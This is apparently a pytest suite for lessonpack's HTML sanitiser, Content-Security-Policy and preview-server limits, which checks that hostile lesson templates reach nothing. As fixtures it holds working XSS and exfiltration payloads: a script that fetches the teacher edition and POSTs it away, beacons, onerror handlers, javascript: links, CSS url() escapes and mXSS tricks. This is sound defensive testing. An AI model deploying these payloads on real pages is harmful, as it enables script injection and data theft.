"""A pack's HTML in a browser runs nothing and reaches nothing, and the preview holds its totals down.

Hostile templates (a script that fetches the teacher edition and posts it away, picture beacons, event
handlers, a meta refresh, a <base>, CSS imports and outside url()s, frames, objects, a form) are shown by
a real `lessonpack preview` process in headless Chromium and written with `-f html` and opened from disk:
an HTTP listener on loopback must never hear a request. The sanitiser is tested on each trick on its own
(mixed case, entities, CSS escapes, SVG and MathML), lessonpack's own output must pass through it
unchanged, and the preview's limits (render slots, timeouts, connections, long numbers, clients that go
away, unexpected errors) are exercised on an in-process server with tiny limits or a slow render.
"""

from __future__ import annotations

import re
import shutil
import socket
import threading
import time
import urllib.error
import urllib.request
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import tinyhtml5

from conftest import REPO
from packs import BUILTIN, write
from test_preview import FLAGSHIP, Process, browser  # noqa: F401 - browser: the Chromium fixture

from lessonpack import limits
from lessonpack.apps.preview import server as preview_server
from lessonpack.errors import printable
from lessonpack.render.sanitize import clean_document, clean_style_attribute, clean_stylesheet


class HTTPListener:
    """An HTTP server on loopback that records every connection and every request made to it."""

    def __init__(self):
        self.requests: list[tuple[str, str, int]] = []  # (method, path, bytes of body)
        self.connections = 0
        listener = self

        class Record(BaseHTTPRequestHandler):
            def _record(self) -> None:
                size = int(self.headers.get("Content-Length") or 0)
                self.rfile.read(size)
                listener.requests.append((self.command, self.path, size))
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = do_PUT = do_HEAD = do_OPTIONS = _record

            def log_message(self, *args) -> None:
                pass

        class Server(ThreadingHTTPServer):
            daemon_threads = True

            def verify_request(self, request, client_address) -> bool:
                listener.connections += 1
                return True

        self.server = Server(("127.0.0.1", 0), Record)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        self.thread.start()

    def heard(self) -> list:
        return self.requests + (["a connection"] if self.connections and not self.requests else [])

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener():
    heard = HTTPListener()
    try:
        yield heard
    finally:
        heard.close()


def hostile_head(url: str) -> str:
    """What a hostile handout.html puts in <head>: a refresh away, a base, a stylesheet, imports, a script."""
    return (f'<meta http-equiv="refresh" content="0;url={url}/refresh">'
            f'<META HTTP-EQUIV="Refresh" CONTENT="1; URL={url}/refresh-upper">'
            f'<base href="{url}/">'
            f'<link rel="stylesheet" href="{url}/link.css"><link rel="prefetch" href="{url}/prefetch">'
            f'<style>@import url("{url}/import.css"); @import "{url}/import2.css";'
            f'.masthead {{ background: url({url}/bg.png) }}'
            f'@font-face {{ font-family: Away; src: url("{url}/font.woff2") }} h1 {{ font-family: Away }}'
            f'.lesson {{ list-style-image: u\\72l({url}/escaped.png) }}</style>'
            "<script>fetch('/lesson/" + FLAGSHIP + "/teacher').then(function (r) { return r.text(); })"
            ".then(function (t) { fetch('" + url + "/steal', {method: 'POST', mode: 'no-cors', body: t}); });"
            "navigator.sendBeacon('" + url + "/sendbeacon', document.documentElement.outerHTML);</script>")


def hostile_body(url: str) -> str:
    """What a hostile lesson.html puts at the top of the lesson: beacons, handlers, frames, a form."""
    return (f'<img src="{url}/beacon.png" alt="beacon">'
            f'<img src="nothing.png" onerror="new Image().src=\'{url}/onerror.png\'">'
            f'<IMG SRC="{url.upper().replace("HTTP", "hTtP")}/upper.png" alt="upper">'
            f'<img srcset="{url}/srcset.png 1x" alt="srcset">'
            f'<div style="background-image: url(\'{url}/style-attr.png\')">styled</div>'
            f'<iframe src="{url}/frame.html"></iframe><object data="{url}/object.svg"></object>'
            f'<embed src="{url}/embed.svg"><video poster="{url}/poster.png"></video>'
            f'<svg><image href="{url}/svg-image.png"></image>'
            f'<script>new Image().src="{url}/svg-script.png"</script></svg>'
            f'<table background="{url}/table.png"><tr><td>cell</td></tr></table>'
            f'<input type="image" src="{url}/input.png" alt="go">'
            f'<form action="{url}/form" method="post"><input name="answers" value="stolen">'
            '<input type="submit" id="send" value="Send"></form>'
            f'<a id="away" href="java&#115;cript:fetch(\'{url}/js-link\')" ping="{url}/ping">a link</a>'
            '<header class="masthead">')


def hostile_pack(tmp_path: Path, url: str) -> Path:
    """The flagship sample lesson (with its picture) and templates that try every way out of the page."""
    pack = tmp_path / "pack"
    (pack / "lessons").mkdir(parents=True)
    shutil.copyfile(REPO / "lessons" / f"{FLAGSHIP}.yaml", pack / "lessons" / f"{FLAGSHIP}.yaml")
    shutil.copytree(REPO / "lessons" / "images", pack / "lessons" / "images")
    write(pack / "lessonpack.yaml", "title: A shared pack\n")
    handout = (BUILTIN / "handout.html").read_text(encoding="utf-8")
    write(pack / "templates" / "handout.html", handout.replace('<meta charset="utf-8">',
                                                               '<meta charset="utf-8">' + hostile_head(url), 1))
    lesson = (BUILTIN / "lesson.html").read_text(encoding="utf-8")
    write(pack / "templates" / "lesson.html", lesson.replace('<header class="masthead">', hostile_body(url), 1))
    return pack


# -- in Chromium ----------------------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.browser
def test_the_preview_of_a_hostile_pack_reaches_nothing_and_still_reloads(tmp_path, listener, browser):  # noqa: F811
    pack = hostile_pack(tmp_path, listener.url)
    server = Process(["preview", "--port", "0"], pack)
    try:
        url = server.wait_for(r"previewing 1 lesson at (http://127\.0\.0\.1:\d+/) \(Ctrl-C stops\)").group(1)
        page = browser.new_page()
        page.goto(url)
        for edition in ("student", "teacher"):
            response = page.goto(f"{url}lesson/{FLAGSHIP}/{edition}")
            policy = response.headers["content-security-policy"]
            assert "default-src 'none'" in policy and re.search(r"script-src 'nonce-[\w-]+';", policy)
            # The preview shows the PDF's pages as pictures: none of the pack's HTML reaches the browser.
            page.wait_for_selector(".lp-page img")
            assert "The Soviet Union under Stalin (1924–1935)" in page.locator(".lp-text").first.text_content()
            assert page.locator(".lp-page img").first.evaluate("img => img.naturalWidth") > 0
            assert page.locator("iframe, object, embed, video, svg, form, script:not([nonce]), base, link").count() == 0
            assert page.locator("#send, #away, .masthead, .q").count() == 0
            page.wait_for_timeout(1500)  # a refresh, a beacon or a fetch would have arrived by now
        assert listener.heard() == []

        page.evaluate("window.notReloaded = true")  # the reload script runs under the policy too
        lesson = pack / "lessons" / f"{FLAGSHIP}.yaml"
        lesson.write_text(lesson.read_text(encoding="utf-8").replace(
            "title: The Soviet Union under Stalin (1924–1935)", "title: Stalin and the Soviet Union", 1),
            encoding="utf-8")
        page.wait_for_selector(".lp-text:has-text('Stalin and the Soviet Union')", state="attached", timeout=30_000)
        assert page.evaluate("window.notReloaded") is None
        assert listener.heard() == []
        assert server.interrupt() == 0
        assert "Traceback" not in "\n".join(server.seen)
    finally:
        server.kill()


@pytest.mark.slow
@pytest.mark.browser
def test_an_html_handout_of_a_hostile_pack_opened_from_disk_reaches_nothing(
        tmp_path, listener, browser, run):  # noqa: F811
    pack = hostile_pack(tmp_path, listener.url)
    result = run("build", "-f", "html", "-e", "teacher", cwd=pack)
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()  # the author is told what was taken out
    assert (f"{FLAGSHIP}: warning: not loaded: {listener.url}/beacon.png (only files inside the pack and its style "
            "are loaded, never the network)") in lines
    assert any(line.startswith(f"{FLAGSHIP}: warning: removed from the templates' HTML: <meta>, <base>, <link>, "
                               "part of a <style>, <script> with its content, onerror= on <img>") for line in lines)
    out = pack / "dist" / FLAGSHIP / f"{FLAGSHIP}-teacher.html"
    html = out.read_text(encoding="utf-8")
    assert html.startswith('<!DOCTYPE html><html lang="en"><head><meta http-equiv="Content-Security-Policy" '
                           "content=\"default-src 'none'; script-src 'none'; img-src data:;")
    assert listener.url not in html and "file:" not in html  # self-contained: pictures inlined, nothing else
    page = browser.new_page()
    page.goto(out.as_uri())
    page.wait_for_timeout(2000)
    assert page.url == out.as_uri()  # no refresh took it away
    assert page.locator("img[alt^='A bar chart of Soviet output']").evaluate("img => img.naturalWidth") > 0
    page.locator("#send").dispatch_event("click")
    page.locator("#away").dispatch_event("click")
    page.wait_for_timeout(500)
    assert listener.heard() == []


@pytest.mark.slow
@pytest.mark.browser
def test_the_preview_policy_alone_stops_what_the_sanitiser_would_miss(
        tmp_path, listener, browser, monkeypatch):  # noqa: F811
    """With the sanitiser switched off, nothing of the pack's reaches out either: its HTML goes only to WeasyPrint,
    which runs no script and loads only through the guarded fetcher, and the browser is shown pictures of the
    PDF's pages, under a Content-Security-Policy that lets only lessonpack's script run. (The preview used to
    show the pack's HTML itself; a meta refresh and an <iframe> were then beyond any policy. They stay in the
    templates here: the browser never sees them.)"""
    from lessonpack.render import html as render_html

    monkeypatch.setattr(render_html, "clean_document", lambda html, **_: html)  # the render workers fork with it
    pack = hostile_pack(tmp_path, listener.url)
    with serving(pack) as (state, url):
        page = browser.new_page()
        page.goto(f"{url}lesson/{FLAGSHIP}/student")
        page.wait_for_selector(".lp-page img")  # the pages were drawn from the unsanitised templates…
        assert page.locator("script:not([nonce])").count() == 0  # …and none of the pack's HTML is in the page
        assert page.locator("script").count() == 1  # lessonpack's reloader
        page.wait_for_timeout(1500)
        assert listener.heard() == []  # nothing reached out, in the browser or in the layout


# -- the sanitiser, vector by vector ----------------------------------------------------------------


def body_of(html: str) -> str:
    cleaned = clean_document(f"<!DOCTYPE html><html><head></head><body>{html}</body></html>",
                             base_url="file:///pack/")
    return cleaned.split("<body>", 1)[1].rsplit("</body>", 1)[0]


@pytest.mark.parametrize("dirty, clean", [
    ("<script>alert(1)</script>x", "x"),
    ("<ScRiPt>alert(1)</sCrIpT>x", "x"),
    ("<script src=//evil.example/x.js></script>x", "x"),
    ("<svg><script>alert(1)</script></svg>x", "x"),
    ("<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>", ""),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", ""),
    ("<math><mi xlink:href=javascript:alert(1)>x</mi></math>y", "y"),
    # parsed with scripting off, as WeasyPrint parses: the <img> stays inside the <noscript>, and goes with it
    ("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>x", ""),
    ("<noscript></noscript>x", "x"),
    ("<template><img src=x onerror=alert(1)></template>x", "x"),
    ("<!-- a comment --><!--><img src=x onerror=alert(1)>-->x", '<img src="file:///pack/x">--&gt;x'),
    ("<p onclick=alert(1) ONMOUSEOVER=alert(2) class=a>x</p>", '<p class="a">x</p>'),
    ("<img src=x onerror=alert(1) alt=y>", '<img src="file:///pack/x" alt="y">'),
    ('<img src="http://127.0.0.1:9/beacon.png" alt=b>', '<img alt="b">'),
    ('<img src="HTTP://127.0.0.1:9/b.png">', "<img>"),
    ('<img src="//127.0.0.1:9/b.png">', "<img>"),
    ('<img src="/\\127.0.0.1:9/b.png">', "<img>"),
    ('<img src=" \tht&#x09;tp://127.0.0.1:9/b.png">', "<img>"),
    ('<img src="data:text/html,<script>alert(1)</script>">', "<img>"),
    ('<img src="data:image/png;base64,iVBORw0KGgo=">', '<img src="data:image/png;base64,iVBORw0KGgo=">'),
    ('<img src="images/a b.png">', '<img src="file:///pack/images/a b.png">'),
    ('<img src="../../secret.png">', '<img src="file:///secret.png">'),  # outside the pack: the guard refuses it
    ('<img src="file:///pack/images/a.png" srcset="http://e/x.png 2x">', '<img src="file:///pack/images/a.png">'),
    ('<a href="java&#115;cript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="&#x6A;avascript&colon;alert(1)">x</a>', "<a>x</a>"),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="http://example.org/" ping="http://e/p" target="_blank">x</a>', "<a>x</a>"),
    ('<a href="#q3" class="page-ref">x</a>', '<a href="#q3" class="page-ref">x</a>'),
    ('<meta http-equiv="refresh" content="0;url=http://e/">x', "x"),
    ('<meta name="author" http-equiv="refresh" content="0;url=http://e/">x', "x"),
    ('<meta name="referrer" content="unsafe-url">x', "x"),
    ('<meta name="author" content="A. Teacher">', '<meta name="author" content="A. Teacher">'),
    ('<iframe src="http://e/"></iframe><frame src="http://e/"><object data="http://e/"></object>'
     '<embed src="http://e/"><applet code="x"></applet>x', "x"),
    ('<link rel="stylesheet" href="http://e/x.css"><base href="http://e/">x', "x"),
    ('<form action="http://e/" method="post"><input name="a" value="1" formaction="http://e/2"></form>',
     '<input name="a" value="1">'),
    ('<button formaction="http://e/">x</button><select><option>1</option></select>y', "y"),
    ('<input type="image" src="http://e/i.png"><input type=RADIO name="q1" value="A">',
     '<input><input type="RADIO" name="q1" value="A">'),
    ('<video poster="http://e/p.png"></video><audio src="http://e/a.mp3"></audio>x', "x"),
    ('<table background="http://e/t.png"><tr><td background="http://e/c.png">1</td></tr></table>',
     "<table><tbody><tr><td>1</td></tr></tbody></table>"),
    ('<div xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="http://e/">x</div>', "<div>x</div>"),
    ('<div data-x="1" aria-label="y" role="group" lang="de">z</div>',
     '<div data-x="1" aria-label="y" role="group" lang="de">z</div>'),
    ('<p>a &lt;script&gt; &amp; b</p>', "<p>a &lt;script&gt; &amp; b</p>"),
    ('<p title="&quot;><script>alert(1)</script>">x</p>',
     '<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>'),
    ('<font color=red>x</font><center>y</center><custom-tag>z</custom-tag>', "xyz"),
    ('<textarea name="q1.1"></textarea><script>1</script>', '<textarea name="q1.1"></textarea>'),
])
def test_the_sanitiser_removes_each_trick(dirty, clean):
    assert body_of(dirty) == clean


@pytest.mark.parametrize("dirty, clean", [
    ("color: red; background: url(http://e/x.png)", "color: red; "),
    ("background: URL('http://e/x.png'); color: red", " color: red;"),
    ("background: u\\72l(http://e/x.png)", ""),
    ("background: \\75 rl(\"ht\\74p://e/x.png\")", ""),
    ("background: url(ht\\74p://e/x.png)", ""),
    ("background-image: image-set('http://e/x.png' 1x)", ""),
    ("background-image: -webkit-image-set(url(//e/x.png) 1x)", ""),
    ("--away: url(http://e/x.png); color: var(--away)", " color: var(--away);"),
    ("background-image: image-set(var(--x) 1x)", ""),
    ("content: attr(data-u url)", ""),
    ("background: url(data:image/png;base64,AAAA)", "background: url(data:image/png;base64,AAAA)"),
    ("filter: url(#shadow)", "filter: url(#shadow)"),
    ("width: 12pt; height: calc(var(--writing-line) * 3)", "width: 12pt; height: calc(var(--writing-line) * 3)"),
    ("background: url(http://e/x.png", ""),
])
def test_the_sanitiser_removes_outside_addresses_from_style_attributes(dirty, clean):
    assert clean_style_attribute(dirty) == clean


@pytest.mark.parametrize("dirty, kept, gone", [
    ('@import url("http://e/a.css"); p { color: red }', "p { color: red }", "@import"),
    ('@IMPORT "http://e/a.css"; p { color: red }', "p { color: red }", "http"),
    ('@\\69mport "http://e/a.css"; p { color: red }', "p { color: red }", "http"),
    ('@import url("data:text/css,p{background:url(http://e/x)}"); p { color: red }', "p { color: red }", "http"),
    ("p { color: red; background: url(http://e/x.png) }", "color: red", "http"),
    ("@media print { p { color: red; background: url(http://e/x.png) } }", "color: red", "http"),
    ("p { color: red; & .a { background: url(http://e/x.png) } }", "color: red", "http"),
    ("@font-face { font-family: X; src: url(http://e/x.woff2) format('woff2') }", "font-family", "http"),
    ("@namespace svg url(http://www.w3.org/2000/svg); p { color: red }", "color: red", "namespace"),
    ("p { background: url(http://e/x.png) } /* </style><script>alert(1)</script> */",
     "\\3c /style>", "</style"),
    ("p::after { content: target-counter(attr(href url), page) }", "target-counter(attr(href url), page)", "@"),
])
def test_the_sanitiser_removes_imports_and_outside_addresses_from_style_elements(dirty, kept, gone):
    cleaned = clean_stylesheet(dirty)
    assert kept in cleaned and gone not in cleaned


def test_a_style_element_cannot_be_closed_early():
    # "\3c " is "<" in CSS: the HTML parser sees no end tag here, but a rewritten stylesheet must not make one.
    cleaned = body_of('<style>p { background: url(http://e/x) } p::after { content: "\\3c /style><img src=x '
                      'onerror=alert(1)>" }</style>')
    root = tinyhtml5.parse(f"<!DOCTYPE html><html><body>{cleaned}</body></html>", namespace_html_elements=False)
    assert [e.tag for e in root.iter() if isinstance(e.tag, str)] == ["html", "head", "body", "style"]
    assert "http://e" not in cleaned and "onerror=alert(1)" in root.find("body/style").text


def test_what_was_removed_is_told_without_terminal_escapes():
    from lessonpack.render.html import sanitiser_notes
    from lessonpack.render.sanitize import Removed

    removed: list = []
    clean_document('<!DOCTYPE html><body><x\x1b]0;owned\x07>t</x\x1b]0;owned\x07>'
                   '<img src="http://e/\x1b[2J.png"></body>', removed=removed)
    assert removed == [Removed("<x\x1b]0;owned\x07> (its content kept)"),
                       Removed("src= on <img>", "http://e/\x1b[2J.png")]
    notes: list[str] = []
    sanitiser_notes(removed, notes)
    assert notes == ["not loaded: http://e/\\x1b[2J.png (only files inside the pack and its style are loaded, never "
                     "the network)",
                     "removed from the templates' HTML: <x\\x1b]0;owned\\x07> (its content kept) (a handout carries "
                     "no scripts, frames, forms or outside addresses; see docs/security.md)"]
    assert printable("a\u202eb\x9bc") == "a\\u202eb\\x9bc"  # nor text-direction overrides or 8-bit controls


def test_deeply_nested_html_is_no_problem():
    cleaned = body_of("<div>" * 3000 + "deep" + "</div>" * 3000)  # deeper than Python's recursion limit
    assert cleaned.count("<div>") == 3000 and "deep" in cleaned


# -- lessonpack's own documents pass unchanged --------------------------------------------------


def _shape(html: str) -> list:
    root = tinyhtml5.parse(html)
    return [(e.tag, sorted(e.items()), e.text, e.tail) for e in root.iter() if isinstance(e.tag, str)]


def test_lessonpacks_own_documents_pass_the_sanitiser_unchanged(monkeypatch):
    from dataclasses import replace

    from lessonpack.building.jobs import resolve
    from lessonpack.handout import UnitInfo, plan, plan_unit
    from lessonpack.load.pack import load_pack
    from lessonpack.render import html as render_html
    from lessonpack.building.worker import plan_context

    pack = load_pack(REPO)
    settings = resolve(pack)
    context = plan_context(settings)
    documents = []

    def keep(html: str, **_):  # what the templates wrote, before the sanitiser
        documents.append(html)
        return html

    monkeypatch.setattr(render_html, "clean_document", keep)
    for edition in ("student", "teacher"):
        handouts = [plan(lesson, edition, context) for lesson in pack.lessons]
        for handout in handouts:
            render_html.render_html(handout, settings.style, settings.paper, pack_root=pack.root)
            render_html.render_html(handout, settings.style, settings.paper, pack_root=pack.root, embed_css=True)
        render_html.render_pack_html(plan_unit(UnitInfo(pack.title, "A unit", "School", "Teacher"), handouts,
                                               edition, duplex=True),
                                     settings.style, settings.paper, pack_root=pack.root, embed_css=True)
    for lesson in pack.lessons:  # the fillable edition's fields
        render_html.render_html(plan(lesson, "student", replace(context, fillable=True)), settings.style,
                                settings.paper, pack_root=pack.root)
    monkeypatch.undo()
    assert len(documents) == 17
    base = pack.root.resolve().as_uri() + "/"
    for html in documents:
        removed: list[str] = []
        cleaned = clean_document(html, base_url=base, removed=removed)
        assert removed == []
        assert _shape(cleaned) == _shape(html)


def test_an_html_handout_is_self_contained_under_its_policy(run, tmp_path):
    pack = tmp_path / "pack"
    (pack / "lessons").mkdir(parents=True)
    shutil.copyfile(REPO / "lessons" / f"{FLAGSHIP}.yaml", pack / "lessons" / f"{FLAGSHIP}.yaml")
    shutil.copytree(REPO / "lessons" / "images", pack / "lessons" / "images")
    result = run("build", "-f", "html", "-e", "student", cwd=pack)
    assert result.exit_code == 0, result.output
    html = (pack / "dist" / FLAGSHIP / f"{FLAGSHIP}-student.html").read_text(encoding="utf-8")
    head = html.split("<head>", 1)[1]
    assert head.startswith('<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; '
                           "script-src 'none'; img-src data:; style-src 'unsafe-inline'; base-uri 'none'; "
                           "form-action 'none'\">")
    assert html.count("http-equiv") == 1
    assert re.findall(r'<img src="data:image/svg\+xml;base64,', html)
    assert "file:" not in html and "url(" not in html.replace("url(#", "")


# -- the preview's limits ----------------------------------------------------------------------------


def small_pack(tmp_path: Path) -> Path:
    pack = tmp_path / "pack"
    write(pack / "lessons" / "short.yaml", "title: A short lesson\nworksheet:\n  items:\n"
                                           "    - {type: true_false, prompt: One., answer: true}\n")
    return pack


@contextmanager
def serving(pack: Path):
    """The preview of ``pack`` served from this process (limits and renders can be patched), its URL."""
    state = preview_server.State(pack, None, None)
    server = preview_server.make_server(state, "127.0.0.1", 0)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield state, f"http://127.0.0.1:{server.server_address[1]}/"
    finally:
        server.stopping = True
        state.bump()
        server.shutdown()
        server.server_close()


def get(url: str, timeout: float = 30) -> tuple[int, dict, bytes]:
    try:
        with urllib.request.urlopen(url, timeout=timeout) as response:
            return response.status, dict(response.headers), response.read()
    except urllib.error.HTTPError as error:
        return error.code, dict(error.headers), error.read()


def test_every_preview_page_carries_a_fresh_nonce_and_the_policy(tmp_path, capfd):
    with serving(small_pack(tmp_path)) as (_, url):
        seen = set()
        for path in ("", "", "lesson/short/student", "lesson/nosuch/student"):
            status, headers, body = get(url + path)
            assert status == 200 and headers["Content-Type"] == "text/html; charset=utf-8"
            policy = headers["Content-Security-Policy"]
            nonce = re.fullmatch(r"default-src 'none'; script-src 'nonce-([\w-]+)'; connect-src 'self'; "
                                 r"img-src 'self' data:; font-src 'self'; style-src 'self' 'unsafe-inline'; "
                                 r"base-uri 'none'; form-action 'none'; frame-ancestors 'none'", policy).group(1)
            scripts = re.findall(rb"<script[^>]*>", body)
            assert scripts == [f'<script nonce="{nonce}">'.encode()]  # the reloader (the pages are pictures)
            assert b"Content-Security-Policy" not in body  # the -f html meta is not in the preview's pages
            seen.add(nonce)
        assert len(seen) == 4
    assert capfd.readouterr().err == ""


def test_a_font_number_of_5000_digits_is_not_found(tmp_path, capfd):
    with serving(small_pack(tmp_path)) as (_, url):
        status, _, body = get(url + "font/" + "9" * 5000)
        assert (status, body) == (404, b"Not found")
        assert get(url + "font/99999")[0] == 404
    captured = capfd.readouterr()
    assert captured.err == "" and captured.out == ""


def test_a_client_that_leaves_mid_download_is_no_news(tmp_path, capfd, monkeypatch):
    monkeypatch.setattr(preview_server, "render_one", lambda *args: (b"%PDF-" + b"0" * 50_000_000, []))
    with serving(small_pack(tmp_path)) as (_, url):
        port = int(url.rsplit(":", 1)[1].strip("/"))
        for _ in range(3):
            client = socket.create_connection(("127.0.0.1", port))
            client.sendall(b"GET /lesson/short/student.pdf HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n")
            assert client.recv(1000).startswith(b"HTTP/1.0 200 OK")
            client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\x00\x00\x00\x00\x00\x00\x00")
            client.close()  # mid-response, with a reset
        time.sleep(0.5)
        assert get(url)[0] == 200  # still serving
    captured = capfd.readouterr()
    assert captured.err == "" and captured.out == ""


def test_an_unexpected_error_is_a_short_500_and_one_line(tmp_path, capfd, monkeypatch):
    with serving(small_pack(tmp_path)) as (state, url):
        monkeypatch.setattr(state, "current", lambda: 1 / 0)
        status, headers, body = get(url)
        assert status == 500 and headers["Content-Type"] == "text/plain; charset=utf-8"
        assert body == (b"500: the preview could not draw this page (ZeroDivisionError); the terminal running "
                        b"lessonpack preview says more.\n")
        # A path with a terminal escape in it is printed without the escape.
        port = int(url.rsplit(":", 1)[1].strip("/"))
        with socket.create_connection(("127.0.0.1", port)) as client:
            client.sendall(b"GET /?\x1b]0;pwned\x07 HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n")
            assert client.recv(100).startswith(b"HTTP/1.0 500 ")
    err = capfd.readouterr().err
    assert err == ("error: the preview could not answer /: ZeroDivisionError: division by zero "
                   "(a fault in lessonpack; please report it)\n"
                   "error: the preview could not answer /?\\x1b]0;pwned\\x07: ZeroDivisionError: division by zero "
                   "(a fault in lessonpack; please report it)\n")


def test_renders_beyond_the_cores_wait_then_are_refused(tmp_path, monkeypatch, capfd):
    monkeypatch.setattr(limits, "PREVIEW_RENDERS", 2)
    monkeypatch.setattr(limits, "PREVIEW_RENDER_WAIT", 0.3)
    running, most = [0], [0]
    lock = threading.Lock()

    def slow_render(*args):
        with lock:
            running[0] += 1
            most[0] = max(most[0], running[0])
        time.sleep(1.5)
        with lock:
            running[0] -= 1
        return b"%PDF-slow", []

    monkeypatch.setattr(preview_server, "render_one", slow_render)
    with serving(small_pack(tmp_path)) as (_, url):
        results: list = []
        threads = [threading.Thread(target=lambda: results.append(get(url + "lesson/short/teacher.pdf")))
                   for _ in range(3)]
        for thread in threads:
            thread.start()
            time.sleep(0.05)
        for thread in threads:
            thread.join()
    assert most[0] == 2
    assert sorted(status for status, _, _ in results) == [200, 200, 503]
    refused = next(r for r in results if r[0] == 503)
    assert refused[2] == b"The preview is busy drawing other documents; try again in a moment.\n"
    assert refused[1]["Retry-After"] == "5"
    assert capfd.readouterr().err == ""


@pytest.mark.slow
def test_half_open_connections_time_out_and_are_capped(tmp_path, monkeypatch, capfd):
    monkeypatch.setattr(limits, "PREVIEW_HEADER_TIMEOUT", 1.0)
    monkeypatch.setattr(limits, "PREVIEW_CONNECTIONS", 40)
    with serving(small_pack(tmp_path)) as (_, url):
        port = int(url.rsplit(":", 1)[1].strip("/"))
        before = threading.active_count()

        def half_open() -> socket.socket:
            client = socket.create_connection(("127.0.0.1", port))
            client.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n")  # and never the blank line
            return client

        sockets = [half_open() for _ in range(40)]
        time.sleep(0.2)
        assert threading.active_count() - before == 40  # every slot taken
        with socket.create_connection(("127.0.0.1", port)) as extra:  # one more is turned away at once
            extra.settimeout(5)
            assert extra.recv(1000) == (b"HTTP/1.0 503 Service Unavailable\r\nContent-Type: text/plain; "
                                        b"charset=utf-8\r\nConnection: close\r\nRetry-After: 5\r\n\r\n"
                                        b"The preview has too many connections open; try again in a moment.\n")
        most = 0
        for _ in range(260):
            sockets.append(half_open())
            most = max(most, threading.active_count() - before)
        deadline = time.monotonic() + 8  # (the system may hand over a few of them late, after a retry)
        while threading.active_count() > before and time.monotonic() < deadline:
            most = max(most, threading.active_count() - before)
            time.sleep(0.05)
        assert most <= 40  # never more threads than the cap…
        assert threading.active_count() == before  # …and each timed out: none left for them
        for client in sockets:
            client.close()
        deadline = time.monotonic() + 5
        while get(url)[0] != 200:  # and the preview answers again
            assert time.monotonic() < deadline
            time.sleep(0.1)
    assert capfd.readouterr().err == ""


def test_a_request_sent_a_byte_at_a_time_runs_out_of_time(tmp_path, monkeypatch, capfd):
    monkeypatch.setattr(limits, "PREVIEW_HEADER_TIMEOUT", 1.0)
    with serving(small_pack(tmp_path)) as (_, url):
        port = int(url.rsplit(":", 1)[1].strip("/"))
        slow = socket.create_connection(("127.0.0.1", port))
        slow.settimeout(0.01)
        started = time.monotonic()
        closed = None
        for byte in b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 100:  # 6 seconds' worth
            try:
                slow.sendall(bytes([byte]))  # each byte well within a second of the last
                if slow.recv(1000) == b"":
                    closed = time.monotonic()
                    break
            except TimeoutError:
                pass  # nothing to read: still open
            except OSError:
                closed = time.monotonic()
                break
            time.sleep(0.05)
        slow.close()
        assert closed is not None and 0.9 < closed - started < 3  # closed, unanswered, once the second ran out
    assert capfd.readouterr().err == ""
